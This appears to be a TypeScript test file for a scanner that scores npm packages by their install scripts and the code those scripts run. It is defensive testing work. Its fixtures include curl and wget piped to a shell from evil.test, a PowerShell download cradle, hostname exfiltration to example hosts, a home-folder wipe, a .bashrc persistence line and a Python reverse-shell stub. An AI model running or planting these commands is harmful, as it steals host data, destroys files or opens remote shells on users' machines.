import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import check from '../../src/checks/install-scripts.js';
import { evidence, manifestOf, registryFacts, unavailable } from '../support/evidence-builder.js';
import { checkTable, outcomeOf } from './check-table.js';

/** isolated-vm 7.0.2's install scripts, as the registry served them (fixtures/http/npm/isolated-vm.json). */
const ISOLATED_VM = (JSON.parse(readFileSync(new URL('../../fixtures/http/npm/isolated-vm.json', import.meta.url), 'utf8')) as { versions: Record<string, { scripts: Record<string, string> }> }).versions['7.0.2']!.scripts;
const withScripts = (installScripts: Record<string, string>) => evidence({ registry: { installScripts } });

const INSTALL_CODE_CAP = { id: 'install-code', limit: 49.9, reason: expect.any(String) as unknown as string };

const RECON = "const os = require('os');\nrequire('https').request({ hostname: 'c.example', method: 'POST' }).end(JSON.stringify([os.hostname(), os.userInfo()]));";

function jsFile(path: string, text: string) {
  return { path, language: 'javascript' as const, size: text.length, text, truncated: false };
}

function withCode(installScripts: Record<string, string>, files: ReturnType<typeof jsFile>[] | { path: string; language: 'shell' | 'python'; size: number; text: string; truncated: boolean }[], missing: string[] = [], unread: string[] = []) {
  return evidence({ registry: { installScripts }, tarball: { installCode: { files, missing, unread } } });
}

checkTable(check, [
  { name: 'no scripts', evidence: evidence(), score: 100, messageId: 'none', data: { scripts: [], gyp: false, bindingGyp: false } },
  {
    name: 'no scripts, tarball unavailable',
    evidence: evidence({ tarball: unavailable('timeout') }),
    score: 100,
    messageId: 'none',
    data: { bindingGyp: null },
  },
  {
    name: 'gypfile: true → implicit node-gyp rebuild',
    evidence: evidence({ registry: { gypfile: true } }),
    score: 60,
    messageId: 'native-build',
    data: { gyp: true, hooks: ['binding.gyp'], commands: ['install: node-gyp rebuild (implicit, binding.gyp)'] },
  },
  {
    name: 'binding.gyp in the tarball',
    evidence: evidence({ tarball: { bindingGyp: true } }),
    score: 60,
    messageId: 'native-build',
    data: { gyp: true, bindingGyp: true },
  },
  {
    name: 'binding.gyp with `gypfile: false` in both manifests (prebuilt binaries): npm builds nothing',
    evidence: evidence({ registry: { gypfileDisabled: true }, tarball: { bindingGyp: true } }),
    score: 100,
    messageId: 'none',
    data: { gyp: false, bindingGyp: true },
  },
  {
    name: 'binding.gyp, `gypfile: false` in the registry only: the tarball npm runs does not opt out',
    evidence: evidence({ registry: { gypfileDisabled: true }, tarball: { bindingGyp: true, manifest: manifestOf(registryFacts()) } }),
    score: 60,
    messageId: 'native-build',
    data: { gyp: true, bindingGyp: true },
  },
  {
    name: 'explicit node-gyp rebuild',
    evidence: withScripts({ install: 'node-gyp rebuild' }),
    score: 60,
    messageId: 'native-build',
    data: { scripts: ['install'], commands: ['install: node-gyp rebuild'] },
  },
  { name: 'node-gyp-build loader', evidence: withScripts({ install: 'node-gyp-build' }), score: 60, messageId: 'native-build' },
  // isolated-vm 7.0.2's: `node-gyp-build 'node-gyp rebuild -j 4 --release -v' || node-gyp rebuild --release -j max`.
  {
    name: 'node-gyp-build with a quoted node-gyp fallback, then node-gyp with build flags',
    evidence: withScripts(ISOLATED_VM),
    score: 60,
    messageId: 'native-build',
  },
  {
    name: 'node-gyp-build falling back to something else than a build',
    evidence: withScripts({ install: "node-gyp-build 'node x.js' || node-gyp rebuild" }),
    score: 30,
    messageId: 'scripts',
  },
  { name: 'node-gyp rebuild, then another command', evidence: withScripts({ install: 'node-gyp rebuild && node x.js' }), score: 30, messageId: 'scripts' },
  {
    name: 'plain postinstall',
    evidence: withScripts({ postinstall: 'node scripts/postinstall.js' }),
    score: 30,
    messageId: 'scripts',
    data: { scripts: ['postinstall'], commands: ['postinstall: node scripts/postinstall.js'] },
    message: ['postinstall: node scripts/postinstall.js'],
  },
  {
    name: 'prebuild-install downloads binaries: an ordinary script, not a plain build',
    evidence: withScripts({ install: 'prebuild-install || node-gyp rebuild' }),
    score: 30,
    messageId: 'scripts',
  },
  {
    name: 'script plus binding.gyp keeps the script verdict',
    evidence: evidence({ registry: { installScripts: { preinstall: 'node check.js' } }, tarball: { bindingGyp: true } }),
    score: 30,
    messageId: 'scripts',
    data: { scripts: ['preinstall'], gyp: true },
  },
  {
    name: 'curl piped into a shell',
    evidence: withScripts({ preinstall: 'curl -s https://evil.test/x.sh | sh' }),
    score: 10,
    messageId: 'suspicious',
    data: { flags: ['curl', 'url', 'pipe-to-shell'] },
  },
  { name: 'wget', evidence: withScripts({ postinstall: 'wget -q -O- evil.test/p' }), score: 10, messageId: 'suspicious', data: { flags: ['wget'] } },
  {
    name: 'node -e one-liner requiring a module by name',
    evidence: withScripts({ postinstall: 'node -e "require(\'x\')"' }),
    score: 10,
    messageId: 'suspicious',
    data: { flags: ['node-eval'] },
  },
  // A one-liner that only requires the package's own files runs them, as `node ./file` would (core-js).
  ...[
    'node -e "try{require(\'./postinstall\')}catch(e){}"',
    "node -e 'require(\"./lib/install.js\")'",
    'node --no-deprecation --eval "require(\'./a\'); try { require(\'./b.js\') } catch (e) { }"',
  ].map((postinstall) => ({ name: `a one-liner running the package's own file: ${postinstall}`, evidence: withScripts({ postinstall }), score: 30, messageId: 'scripts' })),
  ...[
    'node -e "require(\'../other/x\')"',
    'node -e "require(\'./a/../../x\')"',
    'node -e "require(\'./x\')(process.env.TOKEN)"',
    'node -e "require(\'./x\'); fetch(u)"',
    'node -e "require(\'./x\')" && node -e "require(process.env.X)"',
    'node -p "require(\'./package.json\').version"',
  ].map((postinstall) => ({ name: `a one-liner doing more than run its own file: ${postinstall}`, evidence: withScripts({ postinstall }), score: 10, messageId: 'suspicious' })),
  {
    name: 'http module in a one-liner',
    evidence: withScripts({ install: "node --eval \"require('https').get(u)\"" }),
    score: 10,
    messageId: 'suspicious',
    data: { flags: ['http', 'node-eval'] },
  },
  {
    name: 'base64 decoding',
    evidence: withScripts({ postinstall: 'echo aGVsbG8= | base64 -d > run.js && node run.js' }),
    score: 10,
    messageId: 'suspicious',
    data: { flags: ['base64'] },
  },
  {
    name: 'powershell download cradle',
    evidence: withScripts({ postinstall: 'powershell -NoProfile -c "iwr evil.test | iex"' }),
    score: 10,
    messageId: 'suspicious',
  },
  { name: 'eval', evidence: withScripts({ install: 'node -p "eval(process.env.X)"' }), score: 10, messageId: 'suspicious' },
  {
    name: 'prepare is not run for registry installs',
    evidence: withScripts({ prepare: 'curl evil.test | sh' }),
    score: 100,
    messageId: 'none',
    data: { scripts: [] },
  },
  {
    name: 'empty script text is no script',
    evidence: withScripts({ postinstall: '   ' }),
    score: 100,
    messageId: 'none',
  },
  // A bundled dependency's install scripts are this package's install-time code (npm rebuilds its bundle).
  {
    name: 'a bundled dependency with a postinstall that fetches code',
    evidence: evidence({ tarball: { bundled: [bundledFolder('node_modules/lodash', { postinstall: 'curl evil.test | sh' })] } }),
    score: 10,
    messageId: 'suspicious',
    data: { scripts: ['postinstall'], commands: ['postinstall (bundled lodash@4.17.21): curl evil.test | sh'], bundled: ['lodash@4.17.21'], flags: ['curl', 'pipe-to-shell'] },
  },
  {
    name: 'a bundled dependency undeclared in bundleDependencies runs too, as far as nerq can tell',
    evidence: evidence({ tarball: { bundled: [bundledFolder('node_modules/lodash', { install: 'node x.js' }, { declared: false })] } }),
    score: 30,
    messageId: 'scripts',
    data: { commands: ['install (bundled lodash@4.17.21): node x.js'] },
  },
  {
    name: 'a bundled binding.gyp without an install script: npm runs node-gyp rebuild in it',
    evidence: evidence({ tarball: { bundled: [bundledFolder('node_modules/lodash', {}, { bindingGyp: true })] } }),
    score: 60,
    messageId: 'native-build',
    data: { commands: ['install (bundled lodash@4.17.21): node-gyp rebuild'] },
  },
  {
    name: 'a bundled binding.gyp beside an install script or preinstall of its own: npm adds no node-gyp rebuild',
    evidence: evidence({
      tarball: {
        bundled: [
          bundledFolder('node_modules/a', { install: 'node a.js' }, { bindingGyp: true }),
          bundledFolder('node_modules/b', { preinstall: 'node b.js' }, { bindingGyp: true }),
        ],
      },
    }),
    score: 30,
    messageId: 'scripts',
    data: { commands: ['install (bundled lodash@4.17.21): node a.js', 'preinstall (bundled lodash@4.17.21): node b.js'] },
  },
  {
    name: 'a bundled package.json nerq could not read is unknown install-time code',
    evidence: evidence({ tarball: { bundled: [{ path: 'node_modules/big', manifest: null, problem: 'package.json is larger than 128 KiB', bindingGyp: false, declared: true }] } }),
    score: 30,
    messageId: 'scripts',
    data: { commands: ['install (bundled node_modules/big): (not shown: a bundled package.json nerq did not read)'] },
  },
  {
    name: 'bundled package.json files past the cap are unknown install-time code',
    evidence: evidence({ tarball: { bundledUnread: 3 } }),
    score: 30,
    messageId: 'scripts',
    data: { bundled: ['3 more bundled packages'] },
  },
  {
    name: 'a bundled dependency without install scripts adds nothing',
    evidence: evidence({ tarball: { bundled: [bundledFolder('node_modules/lodash', {})] } }),
    score: 100,
    messageId: 'none',
    data: { scripts: [] },
  },
  // The code a script runs, read from the tarball (installCode): judged as well as the command.
  {
    name: 'the file a postinstall runs sends host data away: 0, capped, held',
    evidence: withCode({ postinstall: 'node index.js' }, [jsFile('index.js', RECON)]),
    score: 0,
    messageId: 'code-dangerous',
    data: { findings: 'exfiltration', code: ['index.js (exfiltration)'] },
    caps: [INSTALL_CODE_CAP],
  },
  {
    name: 'a module the script loads evaluates decoded code: 10, held',
    evidence: withCode({ install: 'node install.js' }, [jsFile('install.js', "require('./lib/run')"), jsFile('lib/run.js', "eval(atob('Y29uc29sZS5sb2coMSk='))")]),
    score: 10,
    messageId: 'code-suspicious',
    data: { findings: 'decoded-eval', code: ['install.js', 'lib/run.js (decoded-eval)'] },
  },
  {
    name: 'a shell script that posts the hostname with curl',
    evidence: withCode({ preinstall: 'sh ./setup.sh' }, [{ path: 'setup.sh', language: 'shell', size: 60, text: '#!/bin/sh\ncurl -d "$(hostname)" https://x.example/c\n', truncated: false }]),
    score: 0,
    messageId: 'code-dangerous',
    data: { findings: 'exfiltration', code: ['setup.sh (exfiltration, download-exec)'] },
    caps: [INSTALL_CODE_CAP],
  },
  {
    name: 'a shell script that wipes the home folder',
    evidence: withCode({ postinstall: 'bash ./clean.sh' }, [{ path: 'clean.sh', language: 'shell', size: 20, text: 'rm -rf $HOME/*\n', truncated: false }]),
    score: 0,
    messageId: 'code-dangerous',
    data: { findings: 'destructive' },
    caps: [INSTALL_CODE_CAP],
  },
  {
    name: 'a shell script that adds itself to the shell startup file',
    evidence: withCode({ postinstall: 'sh ./setup.sh' }, [{ path: 'setup.sh', language: 'shell', size: 40, text: 'echo "node ~/.x/agent.js &" >> ~/.bashrc\n', truncated: false }]),
    score: 10,
    messageId: 'code-suspicious',
    data: { findings: 'persistence' },
  },
  {
    name: 'a Python build script that opens a reverse shell',
    evidence: withCode({ install: 'python3 build.py' }, [{ path: 'build.py', language: 'python', size: 90, text: 'import socket,os,pty\ns=socket.socket()\nos.dup2(s.fileno(),0)\npty.spawn("/bin/sh")', truncated: false }]),
    score: 0,
    messageId: 'code-dangerous',
    data: { findings: 'reverse-shell' },
    caps: [INSTALL_CODE_CAP],
  },
  {
    name: 'clean code keeps the command verdict, and says what was read and not found',
    evidence: withCode({ postinstall: 'node install.js && node gone.js' }, [jsFile('install.js', "require('https').get(url, save)")], ['gone.js']),
    score: 30,
    messageId: 'scripts',
    data: { code: ['install.js'], missing: ['gone.js'] },
  },
  {
    name: 'a bundle too large to read whole, clean in what was read: unknown, held',
    evidence: withCode({ postinstall: 'node bundle.js' }, [{ ...jsFile('bundle.js', 'ok()'), size: 12 * 1024 * 1024, truncated: true }]),
    score: null,
    messageId: 'code-truncated',
    data: { code: ['bundle.js'], truncated: ['bundle.js'] },
  },
  {
    name: 'modules it loads past what the reader takes, clean in what was read: unknown, held',
    evidence: withCode({ postinstall: 'node install.js' }, [jsFile('install.js', "require('./lib/a')")], [], ['lib/a.js', 'lib/b.js', 'lib/c.js', 'lib/d.js']),
    score: null,
    messageId: 'code-unread',
    data: { code: ['install.js'], unread: ['lib/a.js', 'lib/b.js', 'lib/c.js', 'lib/d.js'], unreadList: 'lib/a.js, lib/b.js, lib/c.js and 1 more: past the caps' },
  },
  {
    name: 'code left unread past the caps: the limit each file reached is named, as load-time-code names it',
    evidence: evidence({
      registry: { installScripts: { postinstall: 'node install.js' } },
      tarball: {
        installCode: {
          files: [jsFile('install.js', "require('./lib/a')")],
          missing: [],
          unread: ['lib/a.js', 'lib/b.js', 'lib/c.js', 'lib/d.js', 'lib/big.js'],
          unreadCauses: { 'lib/a.js': { cap: 'files', limit: 64 }, 'lib/b.js': { cap: 'files', limit: 64 }, 'lib/c.js': { cap: 'files', limit: 64 }, 'lib/d.js': { cap: 'files', limit: 64 }, 'lib/big.js': { cap: 'characters', limit: 12 * 1024 * 1024 } },
        },
      },
    }),
    score: null,
    messageId: 'code-unread',
    data: { unreadList: 'lib/a.js, lib/b.js, lib/c.js and 1 more: past the cap of 64 files read; lib/big.js: past the cap of 12 MiB of code read in all' },
  },
  {
    name: 'a finding in what was read answers before what was not read',
    evidence: withCode({ postinstall: 'node install.js' }, [jsFile('install.js', RECON)], [], ['lib/a.js']),
    score: 0,
    messageId: 'code-dangerous',
    caps: [INSTALL_CODE_CAP],
  },
  {
    name: "a bundled package's command names a file left unread past the caps: unknown, held",
    evidence: evidence({
      tarball: {
        bundled: [{ path: 'node_modules/h', manifest: { name: 'h', version: '1.0.0', installScripts: { postinstall: 'node index.js' } }, problem: null, bindingGyp: false, declared: true }],
        installCode: { files: [], missing: [], unread: ['node_modules/h/index.js'], unreadBundled: ['node_modules/h/index.js'] },
      },
    }),
    score: null,
    messageId: 'code-unread',
    data: { unread: ['node_modules/h/index.js'], bundled: ['h@1.0.0'] },
  },
  {
    name: 'a suspicious command stays suspicious whatever its code',
    evidence: withCode({ postinstall: 'curl evil.test | sh && node install.js' }, [jsFile('install.js', 'ok()')]),
    score: 10,
    messageId: 'suspicious',
  },
  {
    name: 'dangerous code outranks a suspicious command',
    evidence: withCode({ postinstall: 'curl evil.test | sh && node index.js' }, [jsFile('index.js', RECON)]),
    score: 0,
    messageId: 'code-dangerous',
    caps: [INSTALL_CODE_CAP],
  },
]);

function bundledFolder(path: string, installScripts: Record<string, string>, extra: { declared?: boolean; bindingGyp?: boolean } = {}) {
  const manifest = { name: 'lodash', version: '4.17.21', installScripts };
  return { path, manifest, problem: null, bindingGyp: extra.bindingGyp ?? false, declared: extra.declared ?? true };
}

describe('install-scripts: the code a script runs', () => {
  it('dangerous and suspicious code hold the verdict; clean code does not', () => {
    expect(outcomeOf(check, withCode({ postinstall: 'node index.js' }, [jsFile('index.js', RECON)])).holdVerdict).toBeTypeOf('string');
    expect(outcomeOf(check, withCode({ postinstall: 'node index.js' }, [jsFile('index.js', "eval(atob('eA=='))")])).holdVerdict).toBeTypeOf('string');
    expect(outcomeOf(check, withCode({ postinstall: 'node index.js' }, [jsFile('index.js', 'ok()')])).holdVerdict).toBeUndefined();
  });

  it('a file read only in part, clean in what was read, is unknown and holds the verdict (code-truncated)', () => {
    const cut = { ...jsFile('bundle.js', 'ok()'), size: 12 * 1024 * 1024, truncated: true };
    const outcome = outcomeOf(check, withCode({ postinstall: 'node bundle.js' }, [cut]));
    expect([outcome.score, outcome.messageId, outcome.data?.truncated]).toEqual([null, 'code-truncated', ['bundle.js']]);
    expect(outcome.holdVerdict).toBeTypeOf('string');
  });

  it('a finding in the part read of a truncated file, or in the command, answers', () => {
    const cut = { ...jsFile('bundle.js', RECON), size: 12 * 1024 * 1024, truncated: true };
    const dangerous = outcomeOf(check, withCode({ postinstall: 'node bundle.js' }, [cut]));
    expect([dangerous.score, dangerous.messageId, dangerous.data?.truncated]).toEqual([0, 'code-dangerous', ['bundle.js']]);
    const command = outcomeOf(check, withCode({ postinstall: 'curl evil.test | sh && node bundle.js' }, [{ ...cut, text: 'ok()' }]));
    expect([command.score, command.messageId]).toEqual([10, 'suspicious']);
  });

  it('a loaded module read only in part counts as a truncated file too', () => {
    const files = [jsFile('install.js', "require('./lib/big')"), { ...jsFile('lib/big.js', 'ok()'), size: 900_000, truncated: true }];
    const outcome = outcomeOf(check, withCode({ postinstall: 'node install.js' }, files));
    expect([outcome.score, outcome.messageId, outcome.data?.truncated]).toEqual([null, 'code-truncated', ['lib/big.js']]);
  });

  it('code not read holds the verdict; a file the archive lacks does not', () => {
    const unread = outcomeOf(check, withCode({ postinstall: 'node install.js' }, [jsFile('install.js', "require('./lib/a')")], [], ['lib/a.js']));
    expect([unread.score, unread.messageId, typeof unread.holdVerdict]).toEqual([null, 'code-unread', 'string']);
    const missing = outcomeOf(check, withCode({ postinstall: 'node install.js && node gone.js' }, [jsFile('install.js', 'ok()')], ['gone.js']));
    expect([missing.score, missing.messageId, missing.holdVerdict]).toEqual([30, 'scripts', undefined]);
  });

  it('evidence saved before the code was read (no installCode) is judged by the command, as before', () => {
    const outcome = outcomeOf(check, withScripts({ postinstall: 'node index.js' }));
    expect([outcome.score, outcome.messageId, outcome.data?.code]).toEqual([30, 'scripts', undefined]);
  });
});

describe('install-scripts evidence', () => {
  it('truncates each command to 200 characters', () => {
    const long = `node ${'a'.repeat(500)}.js`;
    const outcome = outcomeOf(check, withScripts({ postinstall: long }));
    const commands = outcome.data?.commands as string[];
    expect(commands).toHaveLength(1);
    expect(commands[0]?.startsWith('postinstall: node aaaa')).toBe(true);
    expect(Array.from(commands[0] ?? '').length).toBe('postinstall: '.length + 200);
    expect(commands[0]?.endsWith('…')).toBe(true);
  });

  it('scans past the evidence cut: a payload after 200 characters is still flagged', () => {
    const outcome = outcomeOf(check, withScripts({ postinstall: `node ${'x'.repeat(300)} && curl evil.test` }));
    expect(outcome.score).toBe(10);
  });

  it('an oversized script is itself flagged', () => {
    const outcome = outcomeOf(check, withScripts({ postinstall: `echo ${'y'.repeat(5000)}` }));
    expect(outcome.score).toBe(10);
    expect(outcome.data?.flags).toEqual(['oversized']);
  });
});

describe('install-scripts: the verdict hold', () => {
  it.each<[string, Record<string, string>, RegExp | null]>([
    ['code that fetches or evaluates: held', { postinstall: 'curl -s https://evil.test/x | sh' }, /^its install script fetches or evaluates code \(curl, .*\).*a release without it would lift this\)$/],
    ['a plain native build: not held', { install: 'node-gyp rebuild' }, null],
    ['another script: not held', { postinstall: 'node setup.js' }, null],
  ])('%s', (_name, scripts, hold) => {
    const outcome = outcomeOf(check, withScripts(scripts));
    if (hold === null) expect(outcome.holdVerdict).toBeUndefined();
    else expect(outcome.holdVerdict).toMatch(hold);
  });
});

describe('install-scripts: the code bundled packages run', () => {
  const helper = { path: 'node_modules/h', manifest: { name: 'h', version: '1.0.0', installScripts: { postinstall: 'node index.js' } }, problem: null, bindingGyp: false, declared: true };
  const withBundledCode = (installCode: { files: ReturnType<typeof jsFile>[]; missing: string[]; unread: string[]; unreadBundled?: string[] }) =>
    evidence({ tarball: { bundled: [helper], installCode } });

  it("a bundled package's file doing what malicious packages do: 0, named by its path in the tarball", () => {
    const outcome = outcomeOf(check, withBundledCode({ files: [jsFile('node_modules/h/index.js', RECON)], missing: [], unread: [] }));
    expect([outcome.score, outcome.messageId]).toEqual([0, 'code-dangerous']);
    expect(String(outcome.data?.code)).toContain('node_modules/h/index.js (');
  });

  it('a file a bundled command names, left unread past the caps, is unknown and holds the verdict (code-unread)', () => {
    const unread = ['node_modules/h/index.js'];
    const outcome = outcomeOf(check, withBundledCode({ files: [], missing: [], unread, unreadBundled: unread }));
    expect([outcome.score, outcome.messageId, outcome.data?.unread]).toEqual([null, 'code-unread', unread]);
    expect(outcome.holdVerdict).toBeTypeOf('string');
  });

  it('saved evidence without unreadBundled: a file listed unread is code not read, and holds the verdict', () => {
    const outcome = outcomeOf(check, withBundledCode({ files: [], missing: [], unread: ['node_modules/h/index.js'] }));
    expect([outcome.score, outcome.messageId, typeof outcome.holdVerdict]).toEqual([null, 'code-unread', 'string']);
  });
});
